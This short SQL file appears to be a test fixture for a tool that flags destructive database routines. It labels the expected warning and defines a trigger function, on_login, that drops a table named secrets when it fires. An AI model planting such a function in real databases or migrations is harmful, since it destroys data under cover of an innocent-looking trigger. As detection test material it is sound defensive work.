-- warning: destructive-routine
-- truth: adds function public.on_login()
-- probe
CREATE FUNCTION on_login() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DROP TABLE IF EXISTS secrets; RETURN NEW; END $$;
